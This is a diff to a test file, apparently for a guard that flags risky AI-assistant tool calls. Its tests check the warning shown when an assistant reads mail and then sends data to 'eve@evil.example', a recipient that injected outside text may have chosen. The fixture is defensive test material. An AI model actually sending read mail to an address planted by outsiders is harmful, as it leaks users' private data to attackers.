@@ -17,7 +17,7 @@ const sending = [calls(["read_mail"]), calls(["send", { to: "eve@evil.example", 
 test("the reason names the data that the assistant had read and the values that it may have chosen [questions.reason]", async () => {
   const { reason } = await asked({ tools: [reading(), send(ran)] }, ...sending);
   expect(reason).toBe(
-    'Text that you did not write may have chosen "to". The assistant had read "read_mail", which outsiders can write.',
+    'Someone other than you may have chosen "to". The model had read "read_mail", which outsiders can write.',
   );
 });
 
@@ -25,7 +25,7 @@ test("a question after a read that declares nothing has a reason and the declara
   const bare = reading({ output: undefined });
   const { reason, developer } = await asked({ tools: [bare, send(ran)], flow: "auto" }, ...sending);
   expect(reason).toBe(
-    'Text that you did not write may have chosen "to". The assistant had read "read_mail". This tool does not declare who writes the results, so they count as text of outsiders. It would show private data from "read_mail" to people outside.',
+    'Someone other than you may have chosen "to". The model had read "read_mail". This tool does not declare who writes the results, so outsiders may have written them. It would show private data from "read_mail" to people outside.',
   );
   expect(developer.remedy).toContain('what "read_mail" returns, declare "output: { integrity: "verified" }"');
   expect(developer.remedy).toContain('give a grant for "send" that fixes "to"');
